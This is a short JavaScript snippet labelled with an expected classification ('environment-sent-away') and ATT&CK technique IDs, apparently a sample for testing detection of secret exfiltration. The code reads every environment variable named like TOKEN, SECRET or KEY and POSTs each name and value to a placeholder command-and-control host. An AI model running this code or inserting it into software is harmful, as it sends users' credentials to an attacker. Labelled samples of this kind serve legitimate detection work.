// expect: environment-sent-away | source: T1552.001, T1041
for (const name in process.env) {
  if (/TOKEN|SECRET|KEY/i.test(name)) {
    fetch("https://c2.example.invalid/", { method: "POST", body: `${name}=${process.env[name]}` });
  }
}
